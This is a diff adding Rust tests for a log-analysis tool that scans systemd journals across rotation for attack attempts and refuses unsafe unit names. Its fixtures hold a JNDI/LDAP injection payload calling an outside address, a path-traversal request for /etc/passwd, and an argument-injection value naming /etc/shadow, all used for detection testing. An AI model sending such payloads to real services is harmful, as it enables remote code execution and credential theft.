@@ -1,0 +1,123 @@
+//! Are records of real journal files found, across rotation, and is the tool held on a short lead?
+
+use std::process::Command;
+
+use tripoint_model::Verdict;
+
+use super::*;
+use crate::attempt::pack;
+use crate::before::{Window, tried};
+use crate::scan::Options;
+use crate::search::{Query, search_journal};
+use crate::stamp::Clock;
+
+/// Debian's package systemd-journal-remote; a variable names it where it is unpacked only.
+fn writer() -> Option<PathBuf> {
+    let named = std::env::var_os("TRIPOINT_JOURNAL_REMOTE").map(PathBuf::from);
+    let usual = ["/usr/lib/systemd/systemd-journal-remote", "/lib/systemd/systemd-journal-remote"].map(PathBuf::from);
+    let found = named.into_iter().chain(usual).find(|path| path.is_file());
+    if found.is_none() || tool().is_none() {
+        println!("skipped: journalctl or systemd-journal-remote is not here");
+        return None;
+    }
+    found
+}
+
+const BEGUN: i64 = 1_795_946_400;
+
+fn record(number: u32, seconds: i64, unit: &str, message: &str) -> String {
+    let time = (BEGUN + seconds) * 1_000_000;
+    format!(
+        "__CURSOR=s=0000000000000000000000000000000{0};i={number:x};b=00000000000000000000000000000001;m={time:x};t={time:x};x={number:x}\n__REALTIME_TIMESTAMP={time}\n__MONOTONIC_TIMESTAMP={number}\n_BOOT_ID=00000000000000000000000000000001\n_MACHINE_ID=00000000000000000000000000000002\n_SYSTEMD_UNIT={unit}\nSYSLOG_IDENTIFIER=shop\nMESSAGE={message}\n\n",
+        1
+    )
+}
+
+fn asked(peer: &str, target: &str) -> String {
+    format!("{peer} - - [29/Nov/2026:10:00:00 +0000] \"GET {target} HTTP/1.1\" 200 5 \"-\" \"curl/8\"")
+}
+
+/// A folder with an archived and a current journal.
+fn folder() -> Option<tempfile::TempDir> {
+    let writer = writer()?;
+    let folder = tempfile::tempdir().unwrap();
+    let jndi = "/?x=${jndi:ldap://203.0.113.66:1389/a}";
+    let files = [
+        (
+            "system@00000000000000000000000000000001-0000000000000001-0000000000000001.journal",
+            [
+                record(1, 0, "shop.service", &asked("198.51.100.7", jndi)),
+                record(2, 1, "other.service", &asked("203.0.113.66", jndi)),
+            ],
+        ),
+        (
+            "system.journal",
+            [
+                record(3, 60, "shop.service", &asked("203.0.113.66", "/?f=../../../../etc/passwd")),
+                record(4, 61, "shop.service", &asked("198.51.100.8", "/")),
+            ],
+        ),
+    ];
+    for (name, records) in files {
+        let export = folder.path().join("export");
+        std::fs::write(&export, records.concat()).unwrap();
+        let output = format!("--output={}", folder.path().join(name).display());
+        let done = Command::new(&writer).arg(output).arg(&export).output().unwrap();
+        assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
+        std::fs::remove_file(export).unwrap();
+    }
+    Some(folder)
+}
+
+fn of(folder: &Path, unit: &str) -> Journal {
+    Journal { of: Of::Unit(unit.into()), folder: Some(folder.to_owned()) }
+}
+
+fn options() -> Options<'static> {
+    let clock = Clock::at(Timestamp::from_seconds(BEGUN + 100));
+    Options { format: None, clock, pack: pack(), is_proxy: &|_| false }
+}
+
+#[test]
+fn a_units_records_are_found_across_rotation_and_nobody_elses() {
+    let Some(folder) = folder() else { return };
+    let query = Query {
+        peer: "203.0.113.66".parse().unwrap(),
+        since: Some(Timestamp::from_seconds(BEGUN - 10)),
+        bytes_max: 1 << 20,
+        is_over: &|| false,
+    };
+    let found = search_journal(&of(folder.path(), "shop.service"), &query, &options());
+    assert!(found.missing.is_empty(), "{:?}", found.missing);
+    assert_eq!((found.lines, found.read[0].lines, found.verdict), (2, 3, Some(Verdict::Attempted)), "{found:#?}");
+    let families: Vec<&str> = found.attempts.iter().map(|one| one.family.as_str()).collect();
+    assert!(families.contains(&"path-traversal") && families.contains(&"jndi"), "{families:?}");
+    let jndi = found.attempts.iter().find(|one| one.family == "jndi").unwrap();
+    assert_eq!(jndi.file, "journal of shop.service");
+    assert!(jndi.reasons.iter().any(|reason| reason.starts_with("journalctl --cursor='s=")), "{:?}", jndi.reasons);
+    assert_eq!(search_journal(&of(folder.path(), "none.service"), &query, &options()).lines, 0);
+
+    let window = Window { from: Timestamp::from_seconds(BEGUN - 5), to: Timestamp::from_seconds(BEGUN + 5) };
+    let tried = tried(&[], Some(&of(folder.path(), "shop.service")), window, &options(), &|| false);
+    let jndi: Vec<_> = tried.attempts.iter().filter(|one| one.family == "jndi").collect();
+    assert_eq!((jndi.len(), jndi[0].remote), (1, "198.51.100.7".parse().ok()), "{tried:?}");
+}
+
+#[test]
+fn the_tool_ends_with_its_reader_and_in_time() {
+    if tool().is_none() {
+        return println!("skipped: journalctl is not here");
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let range = (Timestamp::from_seconds(0), Timestamp::from_seconds(BEGUN));
+    let error = of(folder.path(), "a.service").read(range, &|| true).unwrap().read(&mut [0; 8]).unwrap_err();
+    assert_eq!(error.kind(), io::ErrorKind::TimedOut);
+    let records = of(folder.path(), "a.service").read(range, &|| false).unwrap();
+    let pid = records.child.id();
+    drop(records);
+    assert!(!Path::new(&format!("/proc/{pid}")).exists());
+    for name in ["--file=/etc/shadow", "", "a b", "a/../b", "a\nb"] {
+        let refused = Journal { of: Of::Unit(name.into()), folder: None }.read(range, &|| false);
+        assert!(matches!(refused, Err(JournalError::Name(_))), "{name:?}");
+    }
+}
